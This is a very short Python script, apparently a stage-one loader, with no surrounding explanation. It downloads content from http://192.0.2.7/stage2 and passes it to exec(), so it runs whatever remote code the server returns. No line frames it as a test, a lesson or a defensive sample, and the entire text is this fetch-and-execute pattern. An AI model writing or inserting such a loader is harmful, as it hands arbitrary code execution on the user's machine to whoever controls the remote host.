import urllib.request

page = urllib.request.urlopen("http://192.0.2.7/stage2").read()
code = page.decode()
exec(code)
